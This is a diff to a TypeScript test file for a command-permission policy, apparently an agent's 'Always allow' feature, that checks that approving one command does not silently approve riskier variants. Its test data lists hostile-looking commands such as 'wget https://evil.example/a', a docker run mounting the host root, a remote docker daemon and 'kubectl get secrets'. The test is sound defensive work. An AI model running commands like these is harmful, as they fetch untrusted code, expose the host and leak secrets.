@@ -64,7 +64,7 @@ const FOLLOWING: Readonly<Record<string, readonly string[]>> = {
   'wget https://h.example/a': ['wget https://evil.example/a', 'wget https://h.example/b'],
   'make test': ['make evil', 'make test SHELL=./x', 'make', 'make test -f evil.mk'],
   'docker run --rm app': ['docker run --rm evil', 'docker run -v /:/h app'],
-  'docker ps': ['docker run app', 'docker -H tcp://h ps'],
+  'docker logs app': ['docker run app', 'docker -H tcp://h logs app', 'docker -H tcp://h ps'],
   'gh pr list': ['gh pr create', 'gh api x', 'gh pr merge 1'],
   'kubectl get pods': ['kubectl get secrets', 'kubectl delete pod x'],
   'cargo test': ['cargo install evil', 'cargo test --config x', 'cargo run'],
@@ -109,7 +109,7 @@ describe('“Always allow”', () => {
       decide,
       accept: async (proposal: Proposal) => {
         const { decision, remember = [] } = await decide(proposal);
-        assert.equal(decision, 'ask');
+        assert.equal(decision, 'ask', JSON.stringify(proposal));
         const choice = remember.find(({ scope }) => scope === 'session');
         if (choice) await policy.remember(choice);
         return choice?.rule;
